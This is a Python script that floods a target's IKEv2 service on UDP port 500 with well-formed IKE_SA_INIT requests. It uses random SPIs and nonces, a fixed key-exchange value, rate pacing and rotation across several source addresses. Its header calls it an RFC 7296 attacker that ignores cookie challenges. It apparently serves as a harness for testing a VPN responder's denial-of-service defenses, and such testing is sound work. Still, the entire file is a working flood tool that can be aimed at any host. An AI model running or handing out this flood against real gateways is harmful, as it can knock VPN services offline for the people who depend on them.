#!/usr/bin/python3
# IKE_SA_INIT flood (RFC 7296 §2.6 attacker): well-formed requests (AES-GCM-128, PRF-SHA256,
# X25519 with a fixed random public value, a random SPIi and nonce each), RATE per second
# (at most), from every source address given in turn, for SECONDS.  Answers (COOKIEs) are
# never read: a flood that does not echo cookies.
#   ike_flood.py TARGET SECONDS RATE SRC...      prints {"sent": N, "seconds": S}
import json, os, socket, struct, sys, time

def request(ke):
    spi = os.urandom(8)
    nonce = os.urandom(32)
    tr = [struct.pack("!BBHBBH", 3, 0, 12, 1, 0, 20) + struct.pack("!HH", 0x800E, 128),
          struct.pack("!BBHBBH", 3, 0, 8, 2, 0, 5),
          struct.pack("!BBHBBH", 0, 0, 8, 4, 0, 31)]
    body = b"".join(tr)
    prop = struct.pack("!BBHBBBB", 0, 0, 8 + len(body), 1, 1, 0, 3) + body
    sa = struct.pack("!BBH", 34, 0, 4 + len(prop)) + prop
    kep = struct.pack("!BBHHH", 40, 0, 8 + len(ke), 31, 0) + ke
    nop = struct.pack("!BBH", 0, 0, 4 + len(nonce)) + nonce
    payloads = sa + kep + nop
    hdr = spi + b"\0" * 8 + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(payloads))
    return hdr + payloads

def main():
    target, seconds, rate, srcs = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), sys.argv[4:]
    socks = []
    for a in srcs:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((a, 0))
        s.setblocking(False)
        socks.append(s)
    ke = os.urandom(32)
    pool = [request(ke) for _ in range(4096)]
    start = time.monotonic()
    sent, end, i = 0, start + seconds, 0
    while time.monotonic() < end:
        ahead = start + i / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
        for _ in range(256):
            try:
                socks[i % len(socks)].sendto(pool[i % len(pool)], (target, 500))
                sent += 1
            except BlockingIOError:
                pass
            i += 1
    print(json.dumps({"sent": sent, "seconds": seconds}))

if __name__ == "__main__":
    main()
